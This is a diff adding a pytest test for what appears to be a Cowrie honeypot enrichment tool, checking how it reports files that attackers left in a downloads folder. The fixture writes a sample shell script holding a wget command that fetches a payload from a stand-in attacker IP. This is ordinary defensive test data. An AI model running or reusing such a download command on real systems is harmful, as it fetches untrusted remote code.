@@ -183,6 +183,16 @@ def test_lists_on_this_machine_are_matched(ingested: Cowrie, monkeypatch: pytest
     assert (gone.code, "everything.netset" in gone.err) == (1, True)
 
 
+def test_what_attackers_left_is_looked_into(ingested: Cowrie, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    folder = tmp_path / "left"
+    folder.mkdir()
+    (folder / ("ab" * 32)).write_bytes(b"#!/bin/sh\nwget http://192.0.2.1/x\n")
+    monkeypatch.setenv("COWRIE_DOWNLOADS_DIR", str(folder))
+    assert ingested("enrich", "--dry-run").out == "downloads: would look into 1 folder\n"
+    assert ingested("enrich").out == "downloads: 1 file, 1 examined\n"
+    assert ingested("enrich", "--service", "downloads").out == "downloads: 1 file, 0 examined\n"
+
+
 def test_a_key_that_is_missing_or_no_reference_is_told_by_name_only(
     ingested: Cowrie, player: Player, monkeypatch: pytest.MonkeyPatch
 ) -> None:
